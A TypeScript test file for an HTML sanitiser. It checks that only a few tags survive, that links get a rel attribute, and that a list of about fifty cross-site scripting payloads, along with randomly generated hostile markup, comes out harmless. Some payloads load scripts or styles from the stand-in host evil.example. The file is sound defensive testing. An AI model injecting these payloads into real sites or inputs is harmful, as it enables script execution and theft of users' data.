import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { toSafeHtml } from './html.ts';

const REL = 'rel="noopener noreferrer nofollow"';

for (const [title, text, expected] of [
  ['a text without tags stays', 'Wir suchen dich – „sofort“', 'Wir suchen dich – „sofort“'],
  [
    'permitted tags stay',
    '<h2>T</h2><p>a <strong>b</strong> <em>c</em></p><ul><li>d</li></ul><ol><li>e</li></ol>',
    '<h2>T</h2><p>a <strong>b</strong> <em>c</em></p><ul><li>d</li></ul><ol><li>e</li></ol>',
  ],
  ['broken markup is closed', '<p><b>fett <i>kursiv</b></p>', '<p><b>fett <i>kursiv</i></b></p>'],
  ['signs that mean something in HTML are written out', 'a < b & c > d', 'a &lt; b &amp; c &gt; d'],
  ['attributes go', '<p style="color:red" onclick="x()" class="y">a</p>', '<p>a</p>'],
  [
    'a link keeps its address and gets a rel',
    '<a href="https://a.example/?x=1&y=2" target="_blank" onmouseover="x()">b</a>',
    `<a href="https://a.example/?x=1&amp;y=2" ${REL}>b</a>`,
  ],
  [
    'a rel that was sent is replaced',
    '<a rel="opener" href="http://a.example">b</a>',
    `<a href="http://a.example" ${REL}>b</a>`,
  ],
  [
    'a link to a mailbox stays',
    '<a href="mailto:ada@example.org">Ada</a>',
    `<a href="mailto:ada@example.org" ${REL}>Ada</a>`,
  ],
  ['headings outside the range move into it', '<h1>a</h1><h6>b</h6>', '<h2>a</h2><h4>b</h4>'],
  ['lines of an editor become paragraphs', '<div>a</div><div>b</div>', '<p>a</p><p>b</p>'],
  ['empty blocks go', '<p>a</p><p><br></p><ul><li> </li></ul><p>&nbsp;</p>', '<p>a</p>'],
] as const) {
  test(title, () => assert.equal(toSafeHtml(text), expected));
}

for (const nothing of ['', '   ', '<p></p>', '<br>', '<p>&nbsp;</p>', '<script>alert(1)</script>', '\u200b'])
  test(`nothing is left of ${JSON.stringify(nothing)}`, () => assert.equal(toSafeHtml(nothing), null));

// What a browser would run or load if it were shown. Collected from the classes of the well-known cheat sheets.
const ATTACKS = [
  '<script>alert(1)</script>t',
  '<scr<script>ipt>alert(1)</scr</script>ipt>t',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>t',
  '<img src=x onerror=alert(1)>t',
  '<img/src="x"/onerror=alert(1)>t',
  '<svg onload=alert(1)>t',
  '<svg><script>alert(1)</script></svg>t',
  '<svg><style><img src=x onerror=alert(1)></style></svg>t',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">t',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">t',
  '<iframe src="javascript:alert(1)"></iframe>t',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>t',
  '<object data="data:text/html,<script>alert(1)</script>"></object>t',
  '<embed src="javascript:alert(1)">t',
  '<base href="https://evil.example/">t',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">t',
  '<link rel="stylesheet" href="//evil.example/x.css">t',
  '<style>@import "//evil.example/x.css";</style>t',
  '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>t',
  '<input autofocus onfocus=alert(1)>t',
  '<details open ontoggle=alert(1)>t</details>',
  '<template><script>alert(1)</script></template>t',
  '<a href="javascript:alert(1)">t</a>',
  '<a href="JaVaScRiPt:alert(1)">t</a>',
  '<a href=" &#1; javascript:alert(1)">t</a>',
  '<a href="java&#x0A;script:alert(1)">t</a>',
  '<a href="java\tscript:alert(1)">t</a>',
  '<a href="&#106;avascript:alert(1)">t</a>',
  '<a href="vbscript:msgbox(1)">t</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">t</a>',
  '<a href="//evil.example">t</a>',
  '<a href="/\\evil.example">t</a>',
  '<a href="\\\\evil.example">t</a>',
  '<a href="https:evil.example">t</a>',
  '<a href="https://a.example" style="position:fixed;inset:0" onclick="alert(1)">t</a>',
  '<a href=\'https://a.example/"onmouseover="alert(1)\'>t</a>',
  '<p title="\'><script>alert(1)</script>">t</p>',
  '<p onclick=alert(1)//<b>t</p>',
  '<<b>script>alert(1)<</b>/script>t',
  '<!--><script>alert(1)</script>-->t',
  '<![CDATA[<script>alert(1)</script>]]>t',
  '<?xml version="1.0"?><script>alert(1)</script>t',
  '<xss style="behavior:url(x.htc)">t</xss>',
  '<p>t</p><plaintext><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>t',
  '<textarea><script>alert(1)</script></textarea>t',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">t',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<b>'.repeat(5000),
  `<p>${'<b>'.repeat(5000)}t`,
];

for (const attack of ATTACKS)
  test(`harmless: ${attack.slice(0, 80)}`, () => assertHarmless(toSafeHtml(attack) ?? ''));

// The strings of the alphabet are those that mean something to a parser of HTML, so that random texts are near to it.
const hostileText = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '<',
        '>',
        '/',
        '"',
        "'",
        '=',
        ' ',
        '\n',
        '\t',
        '\0',
        '&',
        '&lt;',
        '&#60;',
        '&colon;',
        '<!--',
        '-->',
        ']]>',
        'script',
        'style',
        'svg',
        'math',
        'p',
        'div',
        'a ',
        'href=',
        'onerror=',
        'javascript:',
        'https://x.example',
        '<p>',
        '</p>',
        '<div>',
        '</div>',
        '<ul>',
        '<li>',
        '</ul>',
        '<a href="',
        '">',
        '<b>',
        '</b>',
        '<br>',
        '<h1>',
        '<script>',
        '</script>',
        '<style>',
        '</style>',
        '<noscript>',
        '<textarea>',
        '<title>',
        '<xmp>',
        '<svg>',
      ),
      fc.string({ maxLength: 4 }),
    ),
    { maxLength: 25 },
  )
  .map((parts) => parts.join(''));

test('whatever is sent comes out harmless', () => {
  fc.assert(
    fc.property(hostileText, (text) => assertHarmless(toSafeHtml(text) ?? '')),
    { numRuns: 5000 },
  );
});

test('what came out stays as it is', () => {
  fc.assert(
    fc.property(hostileText, (text) => {
      const safe = toSafeHtml(text);
      if (safe !== null) assert.equal(toSafeHtml(safe), safe);
    }),
    { numRuns: 5000 },
  );
});

/** Every < begins one of the tags, written as the sanitiser writes them: what is left cannot be read in two ways. */
function assertHarmless(html: string): void {
  const rest = html.replaceAll(
    /<\/?(p|ul|ol|li|h2|h3|h4|strong|em|b|i)>|<br \/>|<\/?a>|<a href="(https?:\/\/|mailto:)[^"<>\s]*" rel="noopener noreferrer nofollow">/gi,
    '',
  );
  assert.doesNotMatch(rest, /[<>]/, html);
}
